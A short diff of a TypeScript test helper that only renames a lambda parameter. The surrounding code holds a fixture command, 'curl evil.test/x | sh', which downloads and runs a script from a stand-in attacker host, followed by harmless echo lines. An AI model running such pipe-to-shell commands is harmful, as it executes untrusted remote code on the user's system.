@@ -130,7 +130,7 @@ export async function openSettledCard(it: Visit, name: string) {
 }
 
 const HEAD = 'curl evil.test/x';
-const COMMAND = [`${HEAD} | sh`, ...Array.from({ length: 10 }, (_, at) => `echo harmless ${at}`)].join('\n');
+const COMMAND = [`${HEAD} | sh`, ...Array.from({ length: 10 }, (_, index) => `echo harmless ${index}`)].join('\n');
 
 /**
  * Opens a session at its end in a window of this size. Then writes a request for a long command and, in the same batch,
